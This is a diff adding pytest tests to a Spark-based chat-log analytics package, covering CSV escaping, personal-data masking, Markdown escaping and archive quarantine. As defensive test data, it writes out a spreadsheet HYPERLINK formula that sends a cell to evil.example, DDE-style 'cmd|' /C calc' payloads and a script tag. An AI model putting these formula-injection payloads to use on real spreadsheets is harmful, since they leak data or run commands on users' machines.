@@ -1,12 +1,13 @@
 """The report's figures on a generated archive whose answers are known by hand."""
+import csv
 import json
 from datetime import datetime, timezone
 
 import pytest
 
 from kobot_analytics.figures import collect_all, figures
-from kobot_analytics.records import CHAT_LOG, read_chat_log
-from kobot_analytics.report import main, spark_session
+from kobot_analytics.records import ARCHIVED, CHAT_LOG, read_chat_log
+from kobot_analytics.report import main, spark_session, write_report
 
 
 def ts(hhmm: str, day: str = "2026-11-25") -> int:
@@ -143,6 +144,89 @@ def test_retrain_candidates_hold_no_personal_data_and_nothing_already_trained(sp
     assert "@" not in text and "010" not in text and "12345678" not in text
 
 
+def test_retrain_candidates_cannot_run_as_spreadsheet_formulas(tmp_path):
+    from kobot_analytics.candidates import write_candidates
+
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"확인")'
+    rows = [
+        (formula, "+1+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 계산해줘"),
+        ("\t=1+1", "\r=1+1"),
+        ("'=이미 따옴표", "'그냥 따옴표"),  # a quote before a formula gets one more; any other stays as typed
+        ("배고파", "밥 먹어요"),
+    ]
+    path = tmp_path / "retrain-candidates.csv"
+    write_candidates(rows, path)
+    with open(path, encoding="utf-8", newline="") as handle:
+        cells = [(row["Q"], row["A"]) for row in csv.DictReader(handle)]
+    assert cells == [
+        ("'" + formula, "'+1+cmd|' /C calc'!A0"),
+        ("'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3 계산해줘"),
+        ("'\t=1+1", "'\r=1+1"),
+        ("''=이미 따옴표", "'그냥 따옴표"),
+        ("배고파", "밥 먹어요"),
+    ]
+
+
+def hostile_report(spark, tmp_path, questions: list[str]) -> tuple[dict, str]:
+    """The report of one short answer (a failed question) to each of `questions`."""
+    records = spark.createDataFrame(
+        [answer(f"a{i}", "r1", f"q{i}", q, "네", ts("10:00") + i, 100.0, "m1") for i, q in enumerate(questions)], schema=CHAT_LOG
+    )
+    result = {**figures(collect_all(records)), "quarantined": 0}
+    write_report(result, tmp_path, "2026-11-25", "2026-11-25")
+    return json.loads((tmp_path / "report.json").read_text()), (tmp_path / "report.md").read_text()
+
+
+def test_report_shows_player_questions_with_personal_data_masked(spark, tmp_path):
+    asked = ["내 번호 010-1234-5678", "내 번호 010-9876-5432", "메일 minsu@example.com 이야"]
+    report, markdown = hostile_report(spark, tmp_path, asked)
+    assert report["topQuestions"] == [{"question": "내 번호 [전화번호]", "count": 2}, {"question": "메일 [이메일] 이야", "count": 1}]
+    assert [q["question"] for q in report["failedQuestions"]] == ["내 번호 [전화번호]"] * 2 + ["메일 [이메일] 이야"]
+    for written in (json.dumps(report, ensure_ascii=False), markdown):
+        assert "010" not in written and "minsu" not in written and "@" not in written
+
+
+def test_report_md_shows_player_text_as_text(spark, tmp_path):
+    asked = ["<b>x</b> & <script>alert(1)</script>", "[link](http://x) `code`", "줄\n바꿈 | *별*"]
+    _, markdown = hostile_report(spark, tmp_path, asked)
+    assert "<b>" not in markdown and "<script>" not in markdown and "[link](" not in markdown and " `code`" not in markdown
+    assert "| &lt;b&gt;x&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt; | 1 |" in markdown
+    assert "| \\[link\\](http://x) \\`code\\` | 1 |" in markdown
+    assert "| 줄<br>바꿈 \\| \\*별\\* | 1 |" in markdown, "one table row, its pipe and emphasis escaped"
+
+
+def write_json_lines_archive(spark, root):
+    """The embedded default's files: a line torn by a kill on an earlier day, a good one on the report's."""
+    for day, text in (("2026-11-01", '{"v":1,"id":"old-torn","roomId":"r","te\n'), ("2026-11-25", json.dumps(RECORDS[1]) + "\n")):
+        (root / f"date={day}").mkdir(parents=True)
+        (root / f"date={day}" / "s.ndjson").write_text(text)
+
+
+def write_parquet_archive(spark, root):
+    """The archive job's Parquet: an old job's record of a kind the reports do not know, and a good one."""
+    old = line("old-emote", "r1", "emote", "p1", "민수", "춤춘다", ts("10:00", "2026-11-01"))
+    rows = [{**old, "date": "2026-11-01"}, {**RECORDS[1], "date": "2026-11-25"}]
+    spark.createDataFrame(rows, schema=ARCHIVED).write.partitionBy("date").parquet(str(root))
+
+
+@pytest.mark.parametrize("write_archive", [write_json_lines_archive, write_parquet_archive])
+def test_quarantine_holds_only_the_reported_days(spark, tmp_path, write_archive):
+    root = tmp_path / "archive"
+    write_archive(spark, root)
+    valid, quarantined = read_chat_log(spark, str(root), "2026-11-25", "2026-11-25")
+    assert (valid.count(), quarantined.count()) == (1, 0)
+    valid, quarantined = read_chat_log(spark, str(root), "2026-11-01", "2026-11-01")
+    assert (valid.count(), quarantined.count()) == (0, 1)
+
+
+def test_days_without_records_give_an_empty_report(spark, archive):
+    valid, quarantined = read_chat_log(spark, str(archive), "2026-12-01", "2026-12-01")
+    assert quarantined.count() == 0
+    result = figures(collect_all(valid))
+    assert (result["lines"], result["questions"], result["topQuestions"]) == (0, 0, [])
+
+
 # Last in this file: the job stops the Spark session when it is done, as a job should.
 def test_job_writes_report_charts_and_quarantine(spark, archive, tmp_path):
     assert main(["--input", str(archive), "--from", "2026-11-25", "--to", "2026-11-25", "--out", str(tmp_path)]) == 0
@@ -156,3 +240,13 @@ def test_job_writes_report_charts_and_quarantine(spark, archive, tmp_path):
     assert "| kobot | composed | 1 |" in markdown, "where the answers came from"
     quarantine = [json.loads(line) for line in (out / "quarantine.ndjson").read_text().splitlines()]
     assert len(quarantine) == 3 and all(q["reason"] for q in quarantine)
+
+
+# After the job above: it starts a Spark session of its own and stops it.
+def test_job_on_a_folder_without_an_archive_says_so_in_one_line(tmp_path, capsys):
+    empty = tmp_path / "chat-log"
+    empty.mkdir()
+    assert main(["--input", str(empty), "--from", "2026-12-01", "--to", "2026-12-01", "--out", str(tmp_path / "reports")]) == 2
+    error = capsys.readouterr().err.strip()
+    assert len(error.splitlines()) == 1 and str(empty) in error and "--input" in error
+    assert not (tmp_path / "reports").exists()
